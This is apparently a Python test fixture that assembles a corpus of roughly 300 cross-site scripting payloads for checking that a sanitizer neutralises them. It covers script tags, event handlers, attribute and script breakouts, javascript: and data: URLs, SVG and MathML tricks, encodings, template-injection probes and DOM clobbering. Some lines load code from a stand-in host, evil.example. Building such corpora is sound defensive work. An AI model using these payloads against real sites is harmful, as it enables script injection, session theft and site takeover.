# ruff: noqa: E501 - a payload is not broken into lines
"""What somebody writes into a name so that a browser runs it: 300 texts that call `__xss()` if they are taken for more.

Written for these tests, by class: tags that load or run, handlers in attributes, ways out of an attribute, of text-like
elements and of scripts, addresses that run, other namespaces, encodings, templates, and what only looks harmless.
"""

from __future__ import annotations

from itertools import product

RUN = "__xss(1)"

_TAGS = (
    f"<script>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\t>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}//",
    f"<script type=module>{RUN}</script>",
    "<script src=data:text/javascript,__xss(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=/\\evil.example/x.js></script>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}' id=go>go</a>",
    f"<a href='&#106;avascript:{RUN}'>go</a>",
    f"<a href='java\tscript:{RUN}'>go</a>",
    f"<a href=' javascript:{RUN}'>go</a>",
    f"<form action='javascript:{RUN}'><button>go</button></form>",
    f"<button formaction='javascript:{RUN}' form=x>go</button>",
    f"<base href='javascript:{RUN}//'>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=content-security-policy content='script-src *'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>go</maction></math>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>&#95;&#95;xss(1)</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>go</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x to=1>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
)
_BREAKOUTS = (
    "\">", "'>", "\"'>", "</title>", "</textarea>", "</style>", "</script>", "</code></pre>", "</td></tr></table>", "-->",
    "]]>", "</dd></dl>", "</noscript>", "\\\">", "</summary></details>",
)  # fmt: skip
_RUNNERS = (f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<script>{RUN}</script>")
_HANDLERS = (
    "onload", "onerror", "onfocus", "onmouseover", "onclick", "onpointerover", "ontoggle", "onanimationstart", "onbegin",
    "oncontentvisibilityautostatechange",
)  # fmt: skip
_ELEMENTS = (
    "<img src=x {}={}>", "<svg {}={}>", "<input autofocus {}={}>", "<body {}={}>", "<details open {}={}>",
    "<video src=x {}={}>", "<div tabindex=0 style=animation:x {}={}>x</div>",
)  # fmt: skip
_IN_ATTRIBUTES = (
    f'" onmouseover={RUN} x="', f"' onmouseover={RUN} x='", f'" autofocus onfocus={RUN} x="', f"` onmouseover={RUN} x=`",
    f" onmouseover={RUN} ", f'"onload="{RUN}', f"'style='x:expression({RUN})", f'" href="javascript:{RUN}" x="',
    f'"><a href=javascript:{RUN}>', f'&quot; onmouseover={RUN} x=&quot;', f'\x00" onmouseover={RUN} x="',
    f'" accesskey=x onclick={RUN} x="', f'" srcdoc="<script>{RUN}</script>',
)  # fmt: skip
_IN_SCRIPTS = (
    f"';{RUN};//", f'";{RUN};//', f"`;{RUN};`", f"${{{RUN}}}", f"\\';{RUN};//", f"</script><script>{RUN}</script>",
    f"\u2028{RUN}\u2028", f"\u2029{RUN}//", f"*/{RUN}/*", f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
    f"view-source:javascript:{RUN}", f"//evil.example/%0a{RUN}", f"0;url=javascript:{RUN}",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{constructor.constructor('__xss(1)')()}}", "${{7*7}}", "#{7*7}",
    "<%= 7*7 %>", "{{{__xss(1)}}}", "{{ '<script>__xss(1)</script>' | safe }}", "{%raw%}<script>__xss(1)</script>{%endraw%}",
    "[[${__xss(1)}]]", "hx-on:click=__xss(1)", "<div hx-get=/api/v1/brain/off hx-trigger=load></div>",
    "<div data-hx-post=/api/v1/brain/off data-hx-trigger=load></div>", "<p x-init=__xss(1) x-data></p>",
    "<p v-html=\"'<img src=x onerror=__xss(1)>'\"></p>",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;__xss(1)&lt;/script&gt;", "%3Cscript%3E__xss(1)%3C/script%3E", "\\u003cscript\\u003e__xss(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3e__xss(1)\\x3c/script\\x3e", "&#60;script&#62;__xss(1)&#60;/script&#62;", "&#x3c;script>__xss(1)</script>",
    "+ADw-script+AD4-__xss(1)+ADw-/script+AD4-", "\uff1cscript\uff1e__xss(1)\uff1c/script\uff1e", "\u02bcscript\u02bc",
    "<\u0000script>__xss(1)</script>", "<img\u000csrc=x\u000conerror=__xss(1)>", "<img/src=x/onerror=__xss(1)>",
    "<img src=x onerror=&#95;&#95;xss(1)>", "<img src=x onerror\n=\n__xss(1)>", "<img src=x:x onerror=\u0022__xss(1)\u0022>",
    "<<img src=x onerror=__xss(1)>>", "<img src='x'onerror='__xss(1)'>", "<img src=x onerror=\\u005f_xss(1)>",
    "\ufeff<script>__xss(1)</script>", "\u202e<script>__xss(1)</script>", "%253Cscript%253E__xss(1)%253C/script%253E",
    "<!--><script>__xss(1)</script>-->", "<!-- --!><img src=x onerror=__xss(1)>", "<![CDATA[<script>__xss(1)</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>__xss(1)</script>", "<x onclick=__xss(1) tabindex=1>x",
    "<plaintext>", "<xmp><script>__xss(1)</script>", "<select><option><script>__xss(1)</script>", "<table><td background=javascript:__xss(1)>",
    "<isindex action=javascript:__xss(1) type=image>", "<marquee onstart=__xss(1)>x</marquee>", "<keygen autofocus onfocus=__xss(1)>",
    "<audio src onloadstart=__xss(1)>", "<textarea autofocus onfocus=__xss(1)>", "<portal src=javascript:__xss(1)>",
    "<dialog open onclose=__xss(1)><form method=dialog><button>x</button></form></dialog>",
    "<input type=image src=x onerror=__xss(1)>", "<picture><source srcset=x><img onerror=__xss(1)></picture>",
    "<frameset onload=__xss(1)>", "<applet code=__xss(1)>", "<bgsound src=javascript:__xss(1)>", "<layer src=javascript:__xss(1)>",
    "<img src=x onerror=eval('__xs'+'s(1)')>", "<img src=x onerror=import('data:text/javascript,__xss(1)')>",
    "<img src=x onerror=location='javascript:__xss(1)'>", "<img src=x onerror=setTimeout('__xss(1)')>",
    "<form id=x></form><button form=x formaction=javascript:__xss(1)>go</button>", "<a name=getElementById id=__xss href=x>",
    "<form name=body><input name=firstChild></form>", "<img name=cookie>", "<iframe name=alert srcdoc=x>",
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *_TAGS,
            *(way + run for way, run in product(_BREAKOUTS, _RUNNERS)),
            *(element.format(handler, RUN) for element, handler in product(_ELEMENTS, _HANDLERS)),
            *(element.format(handler, f'"{RUN}"') for element, handler in product(_ELEMENTS[:6], _HANDLERS[:8])),
            *_IN_ATTRIBUTES,
            *_IN_SCRIPTS,
            *_TEMPLATES,
            *_ENCODED,
        )
    )
)
